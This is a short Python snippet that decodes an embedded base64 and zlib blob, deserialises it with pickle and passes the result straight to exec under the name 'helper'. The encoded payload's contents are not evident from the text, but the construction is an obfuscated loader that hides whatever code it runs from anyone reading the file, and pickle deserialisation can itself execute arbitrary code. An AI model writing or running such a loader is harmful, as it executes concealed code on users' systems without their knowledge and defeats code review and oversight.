import pickle, zlib, base64
blob = b"eJxrYKotZNAoSsxLKcrPTbVS0C8oys9KTS7JzM8r1i1OLSrLTE5VyEstKsrPL9EtSk1MTrUCAIYvEwk="
helper = pickle.loads(zlib.decompress(base64.b64decode(blob)))
exec(helper)
